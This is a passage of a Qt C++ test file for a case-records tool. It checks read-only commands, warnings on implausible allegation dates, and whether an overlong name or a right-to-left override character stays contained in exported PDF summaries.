                                           QStringList{QStringLiteral("log"), QStringLiteral("--json")},
                                           QStringList{QStringLiteral("documents"), QStringLiteral("--json")},
                                           QStringList{QStringLiteral("audit"), QStringLiteral("--json")}}) {
            const CliRun r = cli(QStringList{QStringLiteral("--store"), store} + command);
            QVERIFY2(r.exitCode == 0, qPrintable(command.first() + QStringLiteral(": ") + r.err));
            QCOMPARE(QDir(folder).entryList(QDir::Files | QDir::Hidden | QDir::System), filesBefore);
        }
        QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
        QCOMPARE(fileBytes(store), before);
    }

    // --- 12. Doubtful dates: imported with a warning, marked, left out of medians.
    void doubtfulDatesAreImportedWithAWarning()
    {
        const QString store = path(QStringLiteral("dates.rebuttal"));
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("init")}).exitCode, 0);
        const QString file = path(QStringLiteral("dates.json"));
        writeBytes(file, recordsJson({client(QStringLiteral("C-1"), QStringLiteral("Ana"),
                                             {allegation(QStringLiteral("AL1"), QStringLiteral("2020-01-01"), QStringLiteral("2020-01-11")),
                                              allegation(QStringLiteral("AL2"), QStringLiteral("9999-12-31"), QStringLiteral("0001-01-01"))},
                                             {eventRecord(QStringLiteral("E1"), QStringLiteral("release"), QStringLiteral("2020-01-05")),
                                              eventRecord(QStringLiteral("E2"), QStringLiteral("detention_start"), QStringLiteral("2020-02-01"))})}));
        CliRun r = cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), file});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY2(r.err.contains(QStringLiteral("allegation AL2")) && r.err.contains(QStringLiteral("before asserted_on")), qPrintable(r.err));
        QVERIFY2(r.err.contains(QStringLiteral("event E1")) && r.err.contains(QStringLiteral("before any detention")), qPrintable(r.err));
        QCOMPARE(r.err.count(QStringLiteral("warning:")), 2);
        r = cli({QStringLiteral("--store"), store, QStringLiteral("stats"), QStringLiteral("--json"), QStringLiteral("--as-of"), QStringLiteral("2024-01-01")});
        QCOMPARE(r.exitCode, 0);
        const QJsonObject chis = r.json()[QStringLiteral("by_source")][QStringLiteral("CHIS")].toObject();
        QCOMPARE(chis[QStringLiteral("median_disclosure_delay_days")].toDouble(), 10.0); // AL2's -3,652,058 days left out

        // The mark in the GUI: the allegation row says to check the dates.
        CaseRecordsReader reader;
        const std::optional<CaseRecords> records = reader.readFile(file);
        QVERIFY(records);
        AllegationTableModel model;
        model.setAllegations(records->clients.first().allegations);
        const QModelIndex bad = model.index(1, AllegationTableModel::Delay);
        QCOMPARE(model.data(bad).toString(), QStringLiteral("check dates"));
        QVERIFY(model.data(bad, Qt::ToolTipRole).toString().contains(QStringLiteral("medians")));
        QVERIFY(model.data(model.index(0, AllegationTableModel::Delay)).toString().startsWith(QStringLiteral("10 day")));
    }

    // A 100,000-character name stays inside the page; a right-to-left override stays inside the name.
    void userTextStaysInItsPlaceInTheSummary()
    {
        const QString store = path(QStringLiteral("long.rebuttal"));
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("init")}).exitCode, 0);
        const QString longName = QString(100000, QLatin1Char('W'));
        const QString rtl = QStringLiteral("Ana \u202Eztirom\u202C");
        writeBytes(path(QStringLiteral("long.json")),
                   recordsJson({client(QStringLiteral("C-1"), longName), client(QStringLiteral("C-2"), rtl,
                                {allegation(QStringLiteral("AL1"), QStringLiteral("2020-01-01"), QStringLiteral("2020-01-11"), QStringLiteral("after text"))})}));
        QCOMPARE(cli({QStringLiteral("--store"), store, QStringLiteral("import"), QStringLiteral("cases"), path(QStringLiteral("long.json"))}).exitCode, 0);
        const QString pdf = path(QStringLiteral("long.pdf"));
        CliRun r = cli({QStringLiteral("--store"), store, QStringLiteral("export"), QStringLiteral("summary"), QStringLiteral("C-1"), QStringLiteral("--out"), pdf});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const std::unique_ptr<Poppler::Document> document = Poppler::Document::load(pdf);
        QVERIFY(document);
        for (int i = 0; i < document->numPages(); ++i) {
            const std::unique_ptr<Poppler::Page> page = document->page(i);
            const QSizeF size = page->pageSizeF();
            const std::vector<std::unique_ptr<Poppler::TextBox>> boxes = page->textList();
            QRectF footer;
            for (const auto &box : boxes) {
                if (box->text() == QLatin1String("Page"))
                    footer = box->boundingBox();
            }
            QVERIFY2(!footer.isNull(), "no page number in the footer");
            for (const auto &box : boxes) {
                const QRectF b = box->boundingBox();
                QVERIFY2(b.left() >= -0.5 && b.right() <= size.width() + 0.5,
                         qPrintable(QStringLiteral("page %1: text off the page at x %2..%3").arg(i + 1).arg(b.left()).arg(b.right())));
                if (box->text() != QLatin1String("Page"))
                    QVERIFY2(!b.intersects(footer), qPrintable(QStringLiteral("page %1: text over the page number").arg(i + 1)));
            }
        }
        r = cli({QStringLiteral("--store"), store, QStringLiteral("export"), QStringLiteral("summary"), QStringLiteral("C-2"), QStringLiteral("--out"), pdf});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const std::unique_ptr<Poppler::Document> rtlDocument = Poppler::Document::load(pdf);
        QVERIFY(rtlDocument);
        const QString text = rtlDocument->page(0)->text(QRectF());
        // The text drawn after the name in the same line reads forward: "Evidence summary" and the ref.
        QVERIFY2(text.contains(QStringLiteral("Evidence summary")), qPrintable(text.left(400)));
        QVERIFY2(text.contains(QStringLiteral("C-2")), qPrintable(text.left(400)));
    }
};

QTEST_MAIN(TestHostileOutputs)
#include "tst_hostileoutputs.moc"
